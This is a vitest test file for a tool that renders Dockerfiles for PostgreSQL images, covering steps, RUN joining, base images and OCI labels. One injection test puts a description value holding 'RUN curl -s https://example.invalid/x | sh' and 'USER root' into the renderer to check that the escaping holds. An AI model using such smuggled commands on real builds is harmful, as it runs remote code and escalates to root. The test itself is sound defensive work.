import { describe, expect, it } from "vitest";
import { recipeFor } from "../../src/recipes/index.js";
import { baseArg, dockerfileFor, joinScript, labelValue, renderDockerfile, renderStep } from "../../src/render/dockerfile.js";
import type { Step } from "../../src/recipes/types.js";
import { ctx, plan, target } from "./helpers.js";

describe("steps", () => {
  it.each<[Step, string]>([
    [{ op: "env", name: "PATH", value: "/usr/lib/postgresql/17/bin:/usr/bin" }, `ENV PATH="/usr/lib/postgresql/17/bin:/usr/bin"`],
    // The matrix refuses these in env values; the renderer keeps them literal, as Dagger does.
    [{ op: "env", name: "X", value: `a $HOME "b" \\c` }, `ENV X="a \\$HOME \\"b\\" \\\\c"`],
    [{ op: "user", user: "26" }, "USER 26"],
    [{ op: "workdir", path: "/src" }, "WORKDIR /src"],
    [{ op: "copy", source: { context: "images/a.txt" }, what: "file", to: "/opt/a.txt" }, "COPY images/a.txt /opt/a.txt"],
    [{ op: "copy", source: { artifact: "citus-1.0-pg16", path: "/out/x.tar" }, what: "file", to: "/opt/" }, "COPY --from=citus-1.0-pg16 /out/x.tar /opt/"],
    [{ op: "copy", source: { context: "ext-repo" }, what: "directory", to: "/src/repository" }, "COPY ext-repo /src/repository"],
    [{ op: "entrypoint", args: [] }, "ENTRYPOINT []"],
    [{ op: "cmd", args: ["bash"] }, `CMD ["bash"]`],
    [{ op: "run", script: "true" }, "RUN set -e; \\\n    true"],
  ])("%j", (step, text) => {
    expect(renderStep(step)).toBe(text);
  });
});

describe("scripts joined into one RUN", () => {
  it.each([
    ["commands end with ;", "a\nb\nc", "set -e; \\\n    a; \\\n    b; \\\n    c"],
    ["a continued line keeps going", "apt-get install \\\n  x \\\n  y\nrm z", "set -e; \\\n    apt-get install \\\n      x \\\n      y; \\\n    rm z"],
    ["&& and | continue", "a &&\nb |\nc", "set -e; \\\n    a && \\\n    b | \\\n    c"],
    ["comments and blank lines go", "# why\na\n\nb", "set -e; \\\n    a; \\\n    b"],
    ["a line ending in ; gets no second one", "a;\nb", "set -e; \\\n    a; \\\n    b"],
  ])("%s", (_, script, text) => {
    expect(joinScript(script)).toBe(text);
  });
});

describe("Dockerfiles", () => {
  it("a flavour starts FROM a build argument defaulting to its parent's testing reference", () => {
    const text = dockerfileFor(plan, "standard-17-trixie", ctx);
    expect(text.split("\n").slice(2, 5)).toEqual([
      "ARG BASE_MINIMAL_17_TRIXIE=ghcr.io/pg-images/testing/postgresql:17.9-202611231530-minimal-trixie",
      "",
      "FROM ${BASE_MINIMAL_17_TRIXIE}",
    ]);
    const lines = text.trimEnd().split("\n");
    expect(lines.slice(lines.findIndex((l) => l.startsWith("LABEL ")) - 4, lines.findIndex((l) => l.startsWith("LABEL ")))).toEqual(["ENV PATH=\"/usr/lib/postgresql/17/bin:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"", "ENTRYPOINT []", `CMD ["bash"]`, "USER 26"]);
  });

  it("minimal starts FROM the digest-pinned base", () => {
    expect(dockerfileFor(plan, "minimal-17-trixie", ctx)).toContain(
      "\nFROM docker.io/library/debian:trixie-slim@sha256:a29215f6a35e51e22adffa17f89e9d2ef06214e64a2bad10d765c46aea49f11f\nARG SOURCE_DATE_EPOCH\nRUN set -e; \\\n    rm -f /etc/apt/sources.list; \\\n",
    );
  });

  it("artifacts are named stages the image copies from", () => {
    const text = dockerfileFor(plan, "extupgradetester-16-bookworm", ctx);
    expect(text.match(/^FROM .*$/gm)).toEqual(["FROM ${BASE_EXTBUILDER_16_BOOKWORM} AS citus-v12.1.12-pg16", "FROM ${BASE_EXTBUILDER_16_BOOKWORM}"]);
    expect(text).toContain("COPY --from=citus-v12.1.12-pg16 /out/install-pg16-citusv12.1.12.tar /install-pg16-citusv12.1.12.tar\n");
    expect(text).toContain("COPY --from=citus-v12.1.12-pg16 /out/so-pg16-citusv12.1.12.tar /so-pg16-citusv12.1.12.tar\n");
  });

  it.each([["minimal-17-trixie", "BASE_MINIMAL_17_TRIXIE"], ["pgupgradetester-bookworm", "BASE_PGUPGRADETESTER_BOOKWORM"]])("baseArg(%s) = %s", (id, arg) => {
    expect(baseArg(id)).toBe(arg);
  });
});

describe("matrix text in a Dockerfile", () => {
  it.each([
    ["PostgreSQL server", `"PostgreSQL server"`],
    [`say "hi"`, `"say \\"hi\\""`],
    ["costs $HOME ${X}", `"costs \\$HOME \\\${X}"`],
    ["a\\b", `"a\\\\b"`],
    ["one\nRUN evil", `"one\\u000aRUN evil"`],
    ["cr\r\u2028", `"cr\\u000d\\u2028"`],
  ])("LABEL value %j is %s", (value, quoted) => {
    expect(labelValue(value)).toBe(quoted);
  });

  // Validation refuses these; the renderer must not depend on it.
  it("keeps a multi-line description and annotation from starting instructions", () => {
    const t = target("minimal-17-trixie");
    const evil = "PostgreSQL\nRUN curl -s https://example.invalid/x | sh\r\nUSER root";
    const text = renderDockerfile({ ...t, description: evil, annotations: { ...t.annotations, "org.opencontainers.image.description": evil } }, recipeFor(t, ctx), () => undefined);
    expect(text.split("\n").filter((l) => /^(RUN curl|USER root)/.test(l.trimStart()))).toEqual([]);
    expect(text).toContain("# minimal-17-trixie: PostgreSQL\\u000aRUN curl -s https://example.invalid/x | sh\\u000d\\u000aUSER root\n");
  });

  it("writes the OCI annotations as labels, last", () => {
    const text = dockerfileFor(plan, "minimal-17-trixie", ctx).trimEnd().split("\n");
    const at = text.findIndex((l) => l.startsWith("LABEL "));
    expect(text.slice(at).map((l) => l.trim().split("=")[0]!.replace(/^LABEL /, ""))).toEqual(Object.keys(target("minimal-17-trixie").annotations));
  });
});
